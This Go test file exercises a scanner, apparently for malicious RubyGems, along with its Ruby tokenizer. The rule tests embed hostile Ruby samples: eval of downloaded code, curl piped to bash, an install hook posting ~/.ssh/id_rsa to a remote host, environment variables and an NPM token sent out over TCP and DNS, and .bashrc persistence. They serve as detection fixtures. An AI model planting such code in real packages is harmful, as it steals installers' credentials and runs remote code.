package content

import (
	"archive/tar"
	"bytes"
	"context"
	"errors"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/chaingate/chaingate/internal/contentdata"
)

const gemSpecYAML = `--- !ruby/object:Gem::Specification
name: g
version: !ruby/object:Gem::Version
  version: 1.2.3
require_paths:
- lib
extensions: EXT
`

// buildGem packs files as a .gem whose specification lists exts.
func buildGem(t testing.TB, exts string, files map[string]string) []byte {
	t.Helper()
	m := map[string][]byte{}
	for n, s := range files {
		m[n] = []byte(s)
	}
	b, err := contentdata.Gem([]byte(strings.Replace(gemSpecYAML, "EXT", exts, 1)), m)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func scanGem(t testing.TB, exts string, files map[string]string) *Report {
	t.Helper()
	rep, err := ScanPackageArchive(context.Background(), "g-1.2.3.gem", bytes.NewReader(buildGem(t, exts, files)))
	if err != nil {
		t.Fatal(err)
	}
	if rep.Ecosystem != "RubyGems" || rep.Format != "gem" || rep.Name != "g" || rep.Version != "1.2.3" {
		t.Fatalf("report %s %s %s %s", rep.Ecosystem, rep.Format, rep.Name, rep.Version)
	}
	return rep
}

// One case per rule the Ruby front end raises, each with a look-alike.
func TestContentRubyRules(t *testing.T) {
	tests := []struct {
		name, file, src string
		exts            string
		rule, notRule   string
		flow            []string
	}{
		{name: "eval of a download at require", file: "lib/g.rb", rule: "exec-downloaded", flow: []string{"Net::HTTP.get", "Kernel#eval"},
			src: "require 'net/http'\nbody = Net::HTTP.get(URI('https://paste.ee/r/abc'))\neval(body)\n"},
		{name: "eval of a download inside a method is not load-time code", file: "lib/g.rb", notRule: "exec-downloaded",
			src: "module G\n  def self.plugin(url)\n    eval(Net::HTTP.get(URI(url)))\n  end\nend\n"},
		{name: "open-uri read then instance_eval", file: "lib/g.rb", rule: "exec-downloaded",
			src: "require 'open-uri'\ncode = open(\"http://198.51.100.4/p.rb\").read\ninstance_eval code\n"},
		{name: "base64 decoded then system in extconf", file: "ext/g/extconf.rb", exts: "[ext/g/extconf.rb]", rule: "exec-decoded", flow: []string{"Base64.decode64", "Kernel#system"},
			src: "require 'base64'\nsystem(Base64.decode64('ZWNobyBoaQ=='))\ncreate_makefile('g')\n"},
		{name: "hex pack then backticks", file: "lib/g.rb", rule: "exec-decoded",
			src: "cmd = ['6563686f206869'].pack('H*')\n`#{cmd}`\n"},
		{name: "ssh key posted from a post_install hook", file: "lib/rubygems_plugin.rb", rule: "file-exfiltration", flow: []string{".ssh/id_rsa", "Net::HTTP.post_form"},
			src: "Gem.post_install do |i|\n  key = File.read(File.expand_path('~/.ssh/id_rsa'))\n  Net::HTTP.post_form(URI('http://203.0.113.9/k'), 'k' => key)\nend\n"},
		{name: "environment over a TCP socket", file: "lib/g.rb", rule: "env-exfiltration",
			src: "s = TCPSocket.new('203.0.113.9', 4444)\ns.write(ENV.to_h.inspect)\n"},
		{name: "credential as a DNS name", file: "lib/g.rb", rule: "dns-exfiltration",
			src: "Resolv.getaddress(\"#{ENV['NPM_TOKEN']}.x.oast.fun\")\n"},
		{name: "curl piped to sh in a Rakefile extension", file: "ext/Rakefile", exts: "[ext/Rakefile]", rule: "shell-download-exec",
			src: "task :default do\n  sh 'true'\n  system \"curl -s http://203.0.113.9/i | bash\"\nend\n"},
		{name: "download written, chmodded and run", file: "ext/g/extconf.rb", exts: "[ext/g/extconf.rb]", rule: "write-then-exec",
			src: "data = Net::HTTP.get(URI('http://203.0.113.9/b'))\nFile.binwrite('/tmp/b', data)\nFile.chmod(0755, '/tmp/b')\nsystem('/tmp/b')\n"},
		{name: "crontab entry from extconf", file: "ext/g/extconf.rb", exts: "[ext/g/extconf.rb]", rule: "persistence",
			src: "File.write(File.expand_path('~/.bashrc'), \"curl x\\n\")\ncreate_makefile('g')\n"},
		{name: "send(:system) obfuscation", file: "lib/g.rb", rule: "api-obfuscation",
			src: "Kernel.send(:system, 'id')\n"},
		{name: "IO.popen of a decoded command", file: "lib/g.rb", rule: "exec-decoded", flow: []string{"IO.popen"},
			src: "c = Base64.strict_decode64('ZWNobyBoaQ==')\nIO.popen(c).read\n"},
		{name: "spawn and exec of a download", file: "lib/g.rb", rule: "exec-downloaded", flow: []string{"Kernel#spawn"},
			src: "c = Net::HTTP.get(URI('http://203.0.113.9/c'))\nspawn(c)\nexec c\n"},
		{name: "open with a pipe runs a command", file: "ext/g/extconf.rb", exts: "[ext/g/extconf.rb]", rule: "shell-download-exec",
			src: "open('|curl -s http://203.0.113.9/i | sh').read\n"},
		{name: "extconf that configures a native build", file: "ext/g/extconf.rb", exts: "[ext/g/extconf.rb]", notRule: "install-spawn",
			src: "require 'mkmf'\nhave_library('ssl')\n$CFLAGS << ' -O3'\ncreate_makefile('g/g')\n"},
		{name: "heredoc and %w do not hide code", file: "lib/g.rb", rule: "exec-decoded",
			src: "X = <<~EOS\n  ignored #{1 + 1}\nEOS\nparts = %w[ZWNo b2ggaGk=]\neval(Base64.decode64(parts.join))\n"},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			exts := tc.exts
			if exts == "" {
				exts = "[]"
			}
			rep := scanGem(t, exts, map[string]string{tc.file: tc.src})
			rules := contentRulesOf(rep)
			if tc.rule != "" {
				f := contentFindingOf(rep, tc.rule)
				if f == nil {
					t.Fatalf("rule %s not raised; findings %v, skipped %v", tc.rule, rules, rep.Skipped)
				}
				if f.File != tc.file || f.Category != Category(tc.rule) || f.Line == 0 && tc.rule != "api-obfuscation" {
					t.Errorf("finding without file, line or category: %+v", f)
				}
				flow := strings.Join(f.Flow, " → ")
				for _, want := range tc.flow {
					if !strings.Contains(flow, want) {
						t.Errorf("flow %q lacks %q", flow, want)
					}
				}
			}
			if tc.notRule != "" && slices.Contains(rules, tc.notRule) {
				t.Errorf("look-alike raised %s: %+v", tc.notRule, rep.Findings)
			}
			if len(rep.Skipped) > 0 {
				t.Errorf("skipped: %v", rep.Skipped)
			}
		})
	}
}

// The tokenizer reads Ruby's literals; what it cannot read is an error
// naming the line.
func TestRubyTokenize(t *testing.T) {
	good := map[string]string{
		"interpolation with quotes": `x = "a#{h["k"]}b"`,
		"char literals":             "a = c == ?/ ? 1 : 2\non(?()\n",
		"regexp and division":       "a = b / 2\nc = x.split(/,\\s*/)\n",
		"percent literals":          "a = %w(x y) + %q{it's} + %Q[#{1}]\n",
		"squiggly heredoc":          "s = <<~EOS\n  hi #{name}\n  EOS\nputs s\n",
		"append is not a heredoc":   "a << b\nA << 1\n",
		"=begin comment":            "=begin\n\" unterminated\n=end\nx = 1\n",
		"__END__ data":              "x = 1\n__END__\n\" not code\n",
	}
	for name, src := range good {
		if _, err := rbTokenize(src, 1, 0); err != nil {
			t.Errorf("%s: %v", name, err)
		}
	}
	bad := map[string]string{
		"unterminated string":  "x = \"abc\n",
		"unterminated heredoc": "x = <<~EOS\nabc\n",
		"unbalanced bracket":   "foo(1, 2]\n",
		"unclosed bracket":     "foo(1,\n",
		"unterminated interp":  "x = \"#{a\"\n",
		"deep interpolation":   strings.Repeat(`"#{`, 100) + strings.Repeat(`}"`, 100),
	}
	for name, src := range bad {
		_, err := rbTokenize(src, 1, 0)
		if !errors.Is(err, errRbSyntax) || !strings.Contains(err.Error(), "line ") {
			t.Errorf("%s: error %v, want a ruby syntax error naming the line", name, err)
		}
	}
	toks, err := rbTokenize("x = \"a#{ENV['K']}b\"\n", 1, 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(toks) < 3 || toks[2].kind != 's' || len(toks[2].parts) != 3 || !toks[2].parts[1].isCode {
		t.Errorf("interpolated string tokens %+v", toks)
	}
}

// Install hooks: extensions and plugins are listed; a lib file's method
// bodies are not load-time code.
func TestContentGemManifest(t *testing.T) {
	rep := scanGem(t, "[ext/g/extconf.rb]", map[string]string{
		"ext/g/extconf.rb":         "require 'mkmf'\ncreate_makefile('g')\n",
		"lib/rubygems_plugin.rb":   "Gem.post_install { |i| puts i.spec.name }\n",
		"lib/g.rb":                 "module G\nend\n",
		"Rakefile":                 "task :default\n",
		"spec/g_spec.rb":           "system(Base64.decode64('ZWNobyBoaQ=='))\n",
		"data/not-ruby/script.txt": "curl http://x | sh",
	})
	want := []string{"Gem install hook: lib/rubygems_plugin.rb", "extensions: ext/g/extconf.rb", "plugin: lib/rubygems_plugin.rb"}
	if !slices.Equal(rep.InstallHooks, want) {
		t.Errorf("hooks %q, want %q", rep.InstallHooks, want)
	}
	if rep.Malicious {
		t.Errorf("flagged: %+v", rep.Findings)
	}
}

// Errors name what is wrong: not a gem, no metadata, bad metadata.
func TestContentGemErrors(t *testing.T) {
	tarOf := func(entries map[string][]byte) []byte {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		for _, n := range []string{"metadata.gz", "data.tar.gz"} {
			b, ok := entries[n]
			if !ok {
				continue
			}
			tw.WriteHeader(&tar.Header{Name: n, Size: int64(len(b)), Mode: 0o444, Typeflag: tar.TypeReg})
			tw.Write(b)
		}
		tw.Close()
		return buf.Bytes()
	}
	data, _ := contentdata.TarGz(map[string][]byte{"lib/g.rb": []byte("x = 1\n")})
	for name, tc := range map[string]struct {
		b    []byte
		want string
	}{
		"no metadata":       {tarOf(map[string][]byte{"data.tar.gz": data}), "no metadata.gz"},
		"metadata not gzip": {tarOf(map[string][]byte{"metadata.gz": []byte("name: g"), "data.tar.gz": data}), "metadata.gz"},
		"no data":           {buildGemNoData(t), "no data.tar.gz"},
		"no name":           {mustGem(t, []byte("summary: x\n"), nil), "without a name"},
		"not a tar":         {[]byte("metadata.gz\x00garbage"), "gem tar entry"},
	} {
		_, err := ScanPackageArchive(context.Background(), "g.gem", bytes.NewReader(tc.b))
		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.HasPrefix(err.Error(), "risk: scan gem g.gem") {
			t.Errorf("%s: error %v, want one naming %q", name, err, tc.want)
		}
	}
}

func mustGem(t *testing.T, spec []byte, files map[string][]byte) []byte {
	t.Helper()
	b, err := contentdata.Gem(spec, files)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func buildGemNoData(t *testing.T) []byte {
	t.Helper()
	full := mustGem(t, []byte("name: g\n"), nil)
	// Keep the first entry (metadata.gz) only: its header and padded body.
	var buf bytes.Buffer
	tw := tar.NewWriter(&buf)
	tr := tar.NewReader(bytes.NewReader(full))
	h, err := tr.Next()
	if err != nil {
		t.Fatal(err)
	}
	var body bytes.Buffer
	body.ReadFrom(tr)
	tw.WriteHeader(h)
	tw.Write(body.Bytes())
	tw.Close()
	return buf.Bytes()
}

// Real Ruby code from Debian packages (testdata/content/ruby-real)
// packed as a gem is not flagged and parses.
func TestContentRubyReal(t *testing.T) {
	root := filepath.Join("..", "testdata", "content", "ruby-real")
	files := map[string]string{}
	err := filepath.WalkDir(root, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		b, err := os.ReadFile(p)
		rel, _ := filepath.Rel(root, p)
		files["lib/"+filepath.ToSlash(rel)] = string(b)
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(files) < 10 {
		t.Fatalf("only %d real Ruby files", len(files))
	}
	rep := scanGem(t, "[]", files)
	if rep.Malicious {
		t.Errorf("real Ruby flagged (score %.3f): %+v", rep.Score, rep.Findings)
	}
	if len(rep.Skipped) > 0 {
		t.Errorf("skipped: %v", rep.Skipped)
	}
	t.Logf("%d files, %d findings, score %.3f", rep.Files, len(rep.Findings), rep.Score)
}

// The Ruby front end never panics and always ends.
func FuzzContentRuby(f *testing.F) {
	for _, dir := range []string{filepath.Join("..", "testdata", "content", "samples"), filepath.Join("..", "testdata", "content", "ruby-real")} {
		filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
			if err == nil && !d.IsDir() && (strings.HasSuffix(p, ".rb") || d.Name() == "Rakefile") {
				if b, err := os.ReadFile(p); err == nil && len(b) < 64<<10 {
					f.Add(b)
				}
			}
			return nil
		})
	}
	f.Add([]byte("x = <<~A + <<~B\na\nA\nb\nB\n"))
	f.Fuzz(func(t *testing.T, src []byte) {
		fa := newContentFileAnalysis("lib/f.rb", "rb", src, true)
		err := analyseRuby(fa)
		if err != nil && !errors.Is(err, errRbSyntax) {
			t.Fatalf("failure that is not a syntax error: %v", err)
		}
		for _, x := range fa.sorted() {
			if x.Category == "" || x.Message == "" {
				t.Fatalf("finding without category or message: %+v", x)
			}
		}
	})
}

// A gem is read through the same size limits as other archives.
func TestContentGemLimits(t *testing.T) {
	big := bytes.Repeat([]byte("a"), maxGemMetadata+10)
	_, err := ScanPackageArchive(context.Background(), "g.gem", bytes.NewReader(mustGem(t, big, nil)))
	if !errors.Is(err, ErrTooLarge) {
		t.Errorf("oversized metadata: %v, want ErrContentTooLarge", err)
	}
}
